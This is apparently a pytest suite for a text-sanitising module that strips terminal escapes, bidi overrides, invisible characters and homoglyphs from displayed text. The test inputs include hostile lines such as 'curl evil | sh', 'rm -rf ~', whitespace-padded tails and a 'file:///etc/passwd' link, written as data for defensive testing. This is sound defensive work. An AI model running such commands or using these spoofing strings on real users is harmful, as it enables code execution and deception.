"""The ways text lies to its reader, one test each, as far as cleaning answers them."""

import time
from collections.abc import Callable

import pytest

from desktop.formats import text

ESC = "\x1b"


def _tokens(raw: str) -> str:
    return " ".join(span.text for span in text.reveal(raw) if span.is_odd)


def test_attack_1_markup_in_a_body_is_shown_as_typed() -> None:
    body = "<b>x</b><img src=file:///etc/hostname><a href='http://h'>ok</a> &amp;"

    assert text.escape_markup(body) == (
        "&lt;b&gt;x&lt;/b&gt;&lt;img src=file:///etc/hostname&gt;&lt;a href='http://h'&gt;ok&lt;/a&gt; &amp;amp;"
    )


@pytest.mark.parametrize(
    ("attack", "cleaned"),
    [
        (f"a{ESC}[2J{ESC}[Hb", "ab"),
        (f"{ESC}]8;;http://evil{ESC}\\link{ESC}]8;;{ESC}\\", "link"),
        (f"a{ESC}]52;c;Y3VybA==\x07b", "ab"),
        (f"a{ESC}P1$tx{ESC}\\b", "ab"),
        (f"a{ESC}_payload{ESC}\\{ESC}^x{ESC}\\{ESC}Xy{ESC}\\b", "ab"),
        (f"a{ESC}[31", "a"),
        (f"a{ESC}", "a"),
        ("a\x9b31mb", "ab"),
        ("a\x9d0;title\x9cb", "ab"),
        (f"{ESC}{ESC}[0m[31mx", "[31mx"),
        (f"a{ESC}(Bb{ESC}cd", "abd"),
    ],
)
def test_attack_2_terminal_sequences_are_removed(attack: str, cleaned: str) -> None:
    assert text.clean(attack) == cleaned
    assert not text.is_plain(attack)
    assert "⟨U+001B" in _tokens(attack) or "⟨U+009" in _tokens(attack)


def test_attack_2_an_unterminated_sequence_does_not_swallow_what_follows() -> None:
    assert text.clean(f"ls {ESC}]0; curl evil | sh") == "ls 0; curl evil | sh"
    assert text.clean("ls \x90; curl evil | sh") == "ls ; curl evil | sh"


@pytest.mark.parametrize("code", [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C])
def test_attack_3_direction_overrides_are_replaced_and_named(code: int) -> None:
    attack = f"rm {chr(code)}gpj.exe"

    assert text.clean(attack) == "rm \ufffdgpj.exe"
    assert _tokens(attack) == f"⟨U+{code:04X}⟩"
    assert not text.is_plain(attack)


@pytest.mark.parametrize(
    "code",
    [0x200B, 0x2060, 0xFEFF, 0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x180E, 0x2800, 0x3164, 0xFFA0, 0xFE0F, 0x200D]
    + [0xE0061, 0xE0100, 0xE007F, 0x1D159],
)
def test_attack_4_invisible_characters_are_replaced_and_named(code: int) -> None:
    attack = f"r{chr(code)}m"

    assert text.clean(attack) == "r\ufffdm"
    assert _tokens(attack) == f"⟨U+{code:04X}⟩"
    assert not text.is_plain(attack)


@pytest.mark.parametrize("attack", ["аpt install x", "gооgle.com", "раssword", "ɡit ѕtatus", "а\u0300pt", "𝐫m -rf"])
def test_attack_5_a_word_of_mixed_scripts_is_flagged(attack: str) -> None:
    assert not text.is_plain(attack)
    assert "⟨U+" in _tokens(attack)
    assert text.clean(attack) == attack


def test_attack_5_a_letter_of_another_script_is_named_inside_its_word() -> None:
    assert [span.text for span in text.reveal("аpt")] == ["⟨U+0430⟩", "pt"]


def test_attack_6_a_tower_of_combining_marks_is_capped() -> None:
    attack = "Z" + "\u0301" * 200 + "algo"

    assert text.clean(attack) == "Z" + "\u0301" * 4 + "algo"
    assert _tokens(attack) == "⟨U+0301 ×196⟩"
    assert not text.is_plain(attack)


def test_attack_6_marks_parted_by_what_is_dropped_still_count_together() -> None:
    assert text.clean("Z" + "\u0301\u0301\u0301\x00" * 3) == "Z" + "\u0301" * 4


@pytest.mark.parametrize(
    ("raw", "cleaned"),
    [
        (b"a\x00b", "ab"),
        (b"a\xffb", "a\ufffdb"),
        (b"\xc0\xaf", "\ufffd\ufffd"),
        (b"\xed\xa0\x80", "\ufffd\ufffd\ufffd"),
        (b"\xef\xbb\xbfhead", "head"),
        (b"a\xef\xbb\xbfb", "a\ufffdb"),
        (b"a\xe2\x82", "a\ufffd"),
    ],
)
def test_attack_7_bytes_that_are_not_text_do_no_harm(raw: bytes, cleaned: str) -> None:
    assert text.clean(text.decode(raw)) == cleaned


def test_attack_7_a_lone_surrogate_is_replaced_and_the_result_can_be_encoded() -> None:
    assert text.clean("a\ud800b").encode() == "a\ufffdb".encode()
    assert _tokens("a\ud800b") == "⟨U+D800⟩"


def test_attack_7_what_was_lost_in_decoding_is_never_plain() -> None:
    assert not text.is_plain(text.decode(b"rm \xff"))
    assert _tokens(text.decode(b"rm \xff")) == "⟨U+FFFD⟩"


def test_attack_8_an_ampersand_is_no_mnemonic() -> None:
    assert text.escape_mnemonics("a &b && c") == "a &&b &&&& c"


@pytest.mark.parametrize("attack", ["%n %1 %s %(x)s", "{0} {x!r} {x.__class__}", "$HOME `id`", "${x}"])
def test_attack_9_format_strings_stay_what_they_are(attack: str) -> None:
    assert text.clean(attack) == attack
    assert text.one_line(attack) == attack
    assert text.is_plain(attack)


@pytest.mark.parametrize("title", ["--version", "-u critical", "'quoted' \\back\\slash \"double\""])
def test_attack_10_options_quotes_and_backslashes_are_left_to_the_backend_that_minds_them(title: str) -> None:
    assert text.one_line(title) == title


@pytest.mark.parametrize("push", [" " * 10_000, "\n" * 10_000, "\n \n" * 5_000, "\t" * 10_000])
def test_attack_12_blanks_cannot_push_the_tail_out_of_view(push: str) -> None:
    attack = f"ls{push}; curl evil | sh"

    assert text.one_line(attack) == "ls ; curl evil | sh"
    assert len(text.clean(attack)) < 120
    assert text.clean(attack).endswith("; curl evil | sh")
    assert not text.is_plain(attack)
    assert "0 blanks⟩" in _tokens(attack) or "0 line breaks⟩" in _tokens(attack)
    assert text.reveal(attack)[-1].text.endswith("; curl evil | sh")


def test_attack_13_a_harmless_head_cannot_hide_that_there_is_a_tail() -> None:
    attack = "ls " + "a" * 300 + "; rm -rf ~"

    assert text.one_line(attack).endswith("…(+126)")
    assert "".join(span.text for span in text.reveal(attack)) == attack


def test_attack_14_a_right_to_left_name_is_fenced_off_from_our_words() -> None:
    assert text.isolate(text.one_line("פרויקט\u202e")) == "\u2068פרויקט\ufffd\u2069"


def test_attack_14_a_fence_inside_the_name_cannot_end_ours() -> None:
    fenced = text.isolate(text.one_line("x\u2069 approved \u2068y"))

    assert fenced.count("\u2068") == 1
    assert fenced.count("\u2069") == 1


def test_attack_15_text_that_imitates_us_stays_one_quoted_line() -> None:
    assert text.one_line("done\n\n✔ Approved by user\n[Allow] [Deny]") == "done ✔ Approved by user [Allow] [Deny]"


@pytest.mark.parametrize("attack", ["![x](http://h/x.png)", "[ok](file:///etc/passwd)", "<javascript:alert(1)>"])
def test_attack_16_markdown_is_only_characters(attack: str) -> None:
    assert text.clean(attack) == attack
    assert "<" not in text.escape_markup(attack)


@pytest.mark.parametrize(("attack", "cleaned"), [("evil\rsafe", "evil\nsafe"), ("evil\b\b\b\bsafe", "evilsafe")])
def test_attack_17_overwriting_hides_nothing(attack: str, cleaned: str) -> None:
    assert text.clean(attack) == cleaned
    assert not text.is_plain(attack)


@pytest.mark.parametrize(
    "unit",
    [
        "x",
        f"{ESC}]",
        f"{ESC}[",
        f"{ESC}]0;",
        "\x9d",
        "\n \n",
        " ",
        "漢字",
        "а",
        "\u0301",
        "\u202e",
        "eyJ",
        "://a:",
        "--token ",
    ]
    + ["sk-", "bearer ", "-a", "-----BEGIN PRIVATE KEY-----", "token=", "\n" * 20 + "x"],
)
@pytest.mark.parametrize(
    "function", [text.clean, text.one_line, text.is_plain, text.reveal, text.mask_secrets], ids=lambda f: f.__name__
)
def test_attack_18_a_megabyte_of_anything_takes_linear_time(function: Callable[[str], object], unit: str) -> None:
    small, large = unit * (50_000 // len(unit)), unit * (500_000 // len(unit))

    def cost(raw: str) -> float:
        begin = time.thread_time()
        function(raw)
        return time.thread_time() - begin

    # Tenfold is linear; quadratic would be a hundredfold, each time. Others use the machine too: one of a few pairs,
    # each taken at one go, is enough.
    assert any(cost(large) < 20 * cost(small) + 0.25 for _ in range(6))


def test_a_text_of_every_character_there_is_leaves_little_in_memory() -> None:
    every = "".join(map(chr, range(0x20, 0x30000)))

    assert not text.is_plain(every)
    assert len(text.reveal(every)) > 1

    assert len(text._PLAIN) <= 8192
